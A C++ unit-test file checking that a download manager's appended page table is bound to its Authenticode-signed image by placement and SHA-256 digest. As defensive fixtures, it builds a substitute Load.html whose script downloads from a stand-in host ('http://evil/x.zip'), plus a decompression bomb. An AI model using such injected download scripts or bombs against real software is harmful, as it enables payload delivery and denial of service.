// The page table bound to the signed image: the packed product's table is unpacked only when it
// lies inside the certificate entry after the PKCS#7 data and has the digest the build computed.
// Each refused form is a well-formed table that the unbound reader still takes.
#include <gtest/gtest.h>

#include <cstdint>
#include <cstring>
#include <memory>
#include <string>

#include "common/sha256.h"
#include "payload/payload_reader.h"
#include "payload/payload_record.h"
#include "payload/table_binding.h"
#include "payload_helpers.h"
#include "support/test_support.h"

using payloadtest::ListFiles;
using payloadtest::ReadLogLines;
using Lines = std::vector<std::pair<std::string, std::string>>;

namespace {

const std::wstring kPackedProduct = std::wstring(QRX_TEST_BINARY_DIR) + L"\\dist\\QRXDownloadManager.exe";
// Written by the build's digest step (qrxpack digest), before the image was linked and signed.
const std::wstring kDigestFile = std::wstring(QRX_TEST_BINARY_DIR) + L"\\generated\\page_table.sha256";
const std::wstring kStagedPages = std::wstring(QRX_TEST_BINARY_DIR) + L"\\pages";

uint32_t U32(const std::string& b, size_t at) {
  uint32_t v = 0;
  std::memcpy(&v, b.data() + at, 4);
  return v;
}
void PutU32(std::string& b, size_t at, uint32_t v) { std::memcpy(&b[at], &v, 4); }

// Where the packed product keeps its entry, its PKCS#7 data and its table.
struct Packed {
  std::string bytes;
  size_t securityDir = 0;  // file offset of the security directory entry
  uint32_t entryStart = 0;
  uint32_t blobEnd = 0;    // end of the PKCS#7 data: the first record
  uint32_t tableEnd = 0;   // after the end record
};

Packed ReadPacked() {
  Packed p;
  p.bytes = qrxtest::ReadFileBytes(kPackedProduct);
  const size_t pe = U32(p.bytes, 0x3C);
  const uint16_t magic = static_cast<uint16_t>(static_cast<uint8_t>(p.bytes[pe + 24]) | static_cast<uint8_t>(p.bytes[pe + 25]) << 8);
  p.securityDir = pe + 24 + (magic == 0x20B ? 112 : 96) + 4 * 8;
  p.entryStart = U32(p.bytes, p.securityDir);
  p.blobEnd = U32(p.bytes, p.bytes.size() - 4);
  // The table: records from the first one until the end record.
  size_t at = p.blobEnd;
  while (p.bytes[at] != 0 || p.bytes[at + 1] != 0) at += 528 + U32(p.bytes, at + 520);
  p.tableEnd = static_cast<uint32_t>(at + 528);
  return p;
}

// Trailing zero bytes and the trailer, and the entry length set to run to the end.
void Close(std::string& b, uint32_t entryStart, size_t securityDir, uint32_t firstRecord) {
  while ((b.size() + 4 - entryStart) % 8 != 0) b.push_back('\0');
  b.append(4, '\0');
  PutU32(b, b.size() - 4, firstRecord);
  PutU32(b, entryStart, static_cast<uint32_t>(b.size() - entryStart));
  PutU32(b, securityDir + 4, static_cast<uint32_t>(b.size() - entryStart));
}

class TableBindingTest : public ::testing::Test {
 protected:
  void SetUp() override {
    const std::string digest = qrxtest::ReadFileBytes(kDigestFile);
    ASSERT_EQ(digest.size(), 32u);
    std::memcpy(digest_.data(), digest.data(), 32);
    packed_ = ReadPacked();
    ASSERT_GT(packed_.entryStart, 0u);
    ASSERT_LT(packed_.entryStart, packed_.blobEnd);
  }

  // Extracts `bytes` (written as a file) into a fresh folder, bound or not.
  bool Extract(const std::string& bytes, bool bound, const qrx::Sha256Digest* digest) {
    tally_ = qrx::InflateTally{};
    const std::wstring path = temp_.Join(L"packed" + std::to_wstring(++runs_) + L".exe");
    EXPECT_TRUE(qrxtest::WriteFileBytes(path, bytes));
    target_ = temp_.Join(L"pages" + std::to_wstring(runs_) + L"\\");
    EXPECT_TRUE(CreateDirectoryW(target_.c_str(), nullptr));
    logger_ = std::make_unique<qrx::Logger>();
    return bound ? qrx::ExtractBoundPayloadFrom(path, target_, logger_.get(), digest, &tally_)
                 : qrx::ExtractPayloadFrom(path, target_, logger_.get(), &tally_);
  }
  bool Bound(const std::string& bytes) { return Extract(bytes, true, &digest_); }
  bool Unbound(const std::string& bytes) { return Extract(bytes, false, nullptr); }
  Lines Log() { return ReadLogLines(logger_->path()); }
  static Lines Refused(const wchar_t* cause) {
    return Lines{{"ERROR", "Page table refused: " + payloadtest::Narrow(cause)},
                 {"DEBUG", "Load Resource from pe finished."}};
  }

  qrxtest::TempDir temp_;
  qrxtest::ScopedEnv tmp_{L"TMP", temp_.path()};
  qrx::Sha256Digest digest_{};
  Packed packed_;
  std::wstring target_;
  std::unique_ptr<qrx::Logger> logger_;
  qrx::InflateTally tally_;
  int runs_ = 0;
};

// The product's image with `table` (records and end record) in place of its own table.
std::string WithTable(const Packed& packed, const std::string& table) {
  std::string image = packed.bytes.substr(0, packed.blobEnd) + table;
  Close(image, packed.entryStart, packed.securityDir, packed.blobEnd);
  return image;
}

qrx::Sha256Digest DigestOf(const std::string& table) {
  qrx::Sha256Digest digest{};
  EXPECT_TRUE(qrx::Sha256Of(table.data(), table.size(), digest));
  return digest;
}

// Offset of the first record stored as it is (not deflated), for changing one of its bytes.
size_t FirstStoredRecord(const Packed& packed) {
  size_t at = packed.blobEnd;
  while (at < packed.tableEnd - 528 && U32(packed.bytes, at + 524) != 0) at += 528 + U32(packed.bytes, at + 520);
  return at;
}

TEST_F(TableBindingTest, TheBuildsDigestIsTheDigestOfTheAppendedTable) {
  qrx::Sha256Digest digest{};
  ASSERT_TRUE(qrx::Sha256Of(packed_.bytes.data() + packed_.blobEnd, packed_.tableEnd - packed_.blobEnd, digest));
  EXPECT_EQ(qrx::DigestHex(digest), qrx::DigestHex(digest_));
}

TEST_F(TableBindingTest, UntouchedProductUnpacksEveryPage) {
  ASSERT_TRUE(Bound(packed_.bytes));
  EXPECT_TRUE(ListFiles(target_) == ListFiles(kStagedPages));
  EXPECT_EQ(Log(), (Lines{{"DEBUG", "Load Resource from pe finished."}}));
}

TEST_F(TableBindingTest, ChangedTableIsRefusedBeforeAnyFileIsWritten) {
  // One byte of a stored page's data: still a well-formed table, and outside the signed hash.
  std::string changed = packed_.bytes;
  const size_t record = FirstStoredRecord(packed_);
  ASSERT_LT(record, packed_.tableEnd - 528u);
  ASSERT_GT(U32(changed, record + 520), 0u);
  changed[record + 528] ^= 0x20;
  EXPECT_FALSE(Bound(changed));
  EXPECT_TRUE(qrxtest::FolderIsEmpty(target_));
  EXPECT_EQ(Log(), Refused(qrx::kCauseDigestMismatch));
  // What a build without the binding does: the changed table is used.
  EXPECT_TRUE(Unbound(changed));
  EXPECT_EQ(ListFiles(target_).size(), 37u);
}

TEST_F(TableBindingTest, OtherTableInPlaceOfTheProductsIsRefused) {
  std::string other = packed_.bytes.substr(0, packed_.blobEnd);
  payloadtest::TableWriter table(0);
  table.File(L"Load.html", "<html><script>external.download('http://evil/x.zip', f)</script></html>");
  table.End();
  other += table.bytes();
  Close(other, packed_.entryStart, packed_.securityDir, packed_.blobEnd);
  EXPECT_FALSE(Bound(other));
  EXPECT_TRUE(qrxtest::FolderIsEmpty(target_));
  EXPECT_EQ(Log(), Refused(qrx::kCauseDigestMismatch));
  EXPECT_TRUE(Unbound(other));
  EXPECT_EQ(ListFiles(target_).size(), 1u);
}

TEST_F(TableBindingTest, ProductTableHoldsDeflatedPages) {
  size_t deflated = 0;
  for (size_t at = packed_.blobEnd; at < packed_.tableEnd - 528; at += 528 + U32(packed_.bytes, at + 520)) {
    if (U32(packed_.bytes, at + 524) == qrx::kRecordDeflated) ++deflated;
  }
  EXPECT_GE(deflated, 20u);
}

// A changed deflated record: the digest refuses it before anything is inflated.
TEST_F(TableBindingTest, DigestIsCheckedBeforeAnythingIsInflated) {
  std::string changed = packed_.bytes;
  ASSERT_EQ(U32(changed, packed_.blobEnd + 524), qrx::kRecordDeflated);
  changed[packed_.blobEnd + 528 + 8] ^= 0x01;
  EXPECT_FALSE(Bound(changed));
  EXPECT_EQ(tally_.inflated, 0u);
  EXPECT_TRUE(qrxtest::FolderIsEmpty(target_));
  EXPECT_EQ(Log(), Refused(qrx::kCauseDigestMismatch));
}

// Tables whose digest is right (the image vouches for them) but whose deflated records are
// hostile: the caps are held before anything is inflated, and a bomb is stopped one byte past
// its declared size. No page is written either way.
TEST_F(TableBindingTest, HostileDeflatedRecordsOfAVouchedTableAreRefused) {
  const std::string zeros = payloadtest::DeflateZeros(qrx::kMaxUnpackedFileSize);
  payloadtest::TableWriter over(0);
  for (int i = 0; i < 5; ++i) over.Deflated(L"big" + std::to_wstring(i), zeros, qrx::kMaxUnpackedFileSize);
  over.End();
  qrx::Sha256Digest digest = DigestOf(over.bytes());
  EXPECT_FALSE(Extract(WithTable(packed_, over.bytes()), true, &digest));
  EXPECT_EQ(tally_.inflated, 0u);
  EXPECT_TRUE(qrxtest::FolderIsEmpty(target_));
  EXPECT_EQ(Log(), (Lines{{"ERROR", "read file data failed!"}, {"DEBUG", "Load Resource from pe finished."}}));

  payloadtest::TableWriter bomb(0);
  bomb.Deflated(L"Load.html", payloadtest::DeflateZeros(64u << 20), 1u << 20);
  bomb.End();
  digest = DigestOf(bomb.bytes());
  EXPECT_FALSE(Extract(WithTable(packed_, bomb.bytes()), true, &digest));
  EXPECT_EQ(tally_.inflated, (1u << 20) + 1);
  EXPECT_TRUE(qrxtest::FolderIsEmpty(target_));
  EXPECT_EQ(Log(), (Lines{{"ERROR", "read file data failed!"}, {"DEBUG", "Load Resource from pe finished."}}));
}

TEST_F(TableBindingTest, TableBeforeThePkcs7DataIsRefused) {
  // The product's own table, moved in front of the certificate entry; the entry (PKCS#7 data
  // only) follows it and the trailer points back at the table.
  const std::string table = packed_.bytes.substr(packed_.blobEnd, packed_.tableEnd - packed_.blobEnd);
  std::string moved = packed_.bytes.substr(0, packed_.entryStart) + table;
  const uint32_t entryStart = static_cast<uint32_t>(moved.size());
  moved += packed_.bytes.substr(packed_.entryStart, packed_.blobEnd - packed_.entryStart);
  PutU32(moved, packed_.securityDir, entryStart);
  Close(moved, entryStart, packed_.securityDir, packed_.entryStart);
  EXPECT_FALSE(Bound(moved));
  EXPECT_TRUE(qrxtest::FolderIsEmpty(target_));
  EXPECT_EQ(Log(), Refused(qrx::kCauseOutsideEntry));
  EXPECT_TRUE(Unbound(moved));
  EXPECT_EQ(ListFiles(target_).size(), 37u);
}

TEST_F(TableBindingTest, TableAfterTheCertificateEntryIsRefused) {
  // The entry ends after the PKCS#7 data; the table follows outside it.
  std::string moved = packed_.bytes.substr(0, packed_.blobEnd);
  while ((moved.size() - packed_.entryStart) % 8 != 0) moved.push_back('\0');
  PutU32(moved, packed_.entryStart, static_cast<uint32_t>(moved.size() - packed_.entryStart));
  PutU32(moved, packed_.securityDir + 4, static_cast<uint32_t>(moved.size() - packed_.entryStart));
  const uint32_t first = static_cast<uint32_t>(moved.size());
  moved += packed_.bytes.substr(packed_.blobEnd, packed_.tableEnd - packed_.blobEnd);
  while (moved.size() % 8 != 4) moved.push_back('\0');
  moved.append(4, '\0');
  PutU32(moved, moved.size() - 4, first);
  EXPECT_FALSE(Bound(moved));
  EXPECT_TRUE(qrxtest::FolderIsEmpty(target_));
  EXPECT_EQ(Log(), Refused(qrx::kCauseNoEntry));
  EXPECT_TRUE(Unbound(moved));
  EXPECT_EQ(ListFiles(target_).size(), 37u);
}

TEST_F(TableBindingTest, TrailerIntoThePkcs7DataIsRefused) {
  std::string inside = packed_.bytes;
  PutU32(inside, inside.size() - 4, packed_.entryStart + 8);
  EXPECT_FALSE(Bound(inside));
  EXPECT_EQ(Log(), Refused(qrx::kCauseOutsideEntry));
}

TEST_F(TableBindingTest, ImageWithoutDigestOrHeadersIsRefused) {
  EXPECT_FALSE(Extract(packed_.bytes, true, nullptr));
  EXPECT_TRUE(qrxtest::FolderIsEmpty(target_));
  EXPECT_EQ(Log(), Refused(qrx::kCauseNoDigest));

  payloadtest::TableWriter table;
  const uint32_t first = table.offset();
  table.File(L"Load.html", "<html></html>");
  table.End();
  table.Trailer(first);
  EXPECT_FALSE(Bound(table.bytes()));
  EXPECT_EQ(Log(), Refused(qrx::kCauseNotPe));
  EXPECT_TRUE(Unbound(table.bytes()));
}

TEST(TablePlacement, Rows) {
  qrx::SignedLayout good;
  good.fileSize = 10000;
  good.entryStart = 4000;
  good.entrySize = 6000;
  good.dwLength = 6000;
  good.revision = 0x0200;
  good.certificateType = 0x0002;
  good.pkcs7Length = 1992;  // PKCS#7 data ends at 6000
  struct Row {
    const char* name;
    void (*change)(qrx::SignedLayout&);
    uint64_t offset;
    uint64_t end;
    const wchar_t* cause;
  };
  const Row rows[] = {
      {"right after the PKCS#7 data", [](qrx::SignedLayout&) {}, 6000, 9996, nullptr},
      {"later inside the entry", [](qrx::SignedLayout&) {}, 7000, 7528, nullptr},
      {"one byte into the PKCS#7 data", [](qrx::SignedLayout&) {}, 5999, 9000, qrx::kCauseOutsideEntry},
      {"before the entry", [](qrx::SignedLayout&) {}, 100, 628, qrx::kCauseOutsideEntry},
      {"over the trailer", [](qrx::SignedLayout&) {}, 6000, 9997, qrx::kCauseOutsideEntry},
      {"end before start", [](qrx::SignedLayout&) {}, 7000, 6999, qrx::kCauseOutsideEntry},
      {"no entry", [](qrx::SignedLayout& l) { l.entryStart = 0; }, 6000, 9000, qrx::kCauseNoEntry},
      {"entry short of the end", [](qrx::SignedLayout& l) { l.entrySize = 5992; }, 6000, 9000, qrx::kCauseNoEntry},
      {"dwLength differs", [](qrx::SignedLayout& l) { l.dwLength = 5992; }, 6000, 9000, qrx::kCauseNoEntry},
      {"revision 1.0", [](qrx::SignedLayout& l) { l.revision = 0x0100; }, 6000, 9000, qrx::kCauseNoEntry},
      {"X.509 entry", [](qrx::SignedLayout& l) { l.certificateType = 1; }, 6000, 9000, qrx::kCauseNoEntry},
      {"malformed PKCS#7", [](qrx::SignedLayout& l) { l.pkcs7Length = 0; }, 6000, 9000, qrx::kCauseNoEntry},
      {"PKCS#7 past the entry", [](qrx::SignedLayout& l) { l.pkcs7Length = 7000; }, 6000, 9000,
       qrx::kCauseOutsideEntry},
  };
  for (const Row& row : rows) {
    qrx::SignedLayout layout = good;
    row.change(layout);
    EXPECT_EQ(qrx::CheckTablePlacement(layout, row.offset, row.end), row.cause) << row.name;
  }
}

TEST(TablePlacement, DerSequenceLengths) {
  const struct {
    std::string header;
    uint32_t length;
  } rows[] = {
      {std::string("\x30\x05", 2), 7},
      {std::string("\x30\x81\x80", 3), 3 + 0x80},
      {std::string("\x30\x82\x12\x34", 4), 4 + 0x1234},
      {std::string("\x30\x84\x00\x01\x00\x00", 6), 6 + 0x10000},
      {std::string("\x31\x05", 2), 0},          // a SET, not a SEQUENCE
      {std::string("\x30\x80", 2), 0},          // indefinite length
      {std::string("\x30\x85\x01\x00\x00\x00\x00", 7), 0},  // five length bytes
      {std::string("\x30\x82\x12", 3), 0},      // cut short
      {std::string("\x30", 1), 0},
  };
  for (const auto& row : rows) {
    EXPECT_EQ(qrx::DerSequenceLength(reinterpret_cast<const unsigned char*>(row.header.data()), row.header.size()),
              row.length);
  }
}

}  // namespace
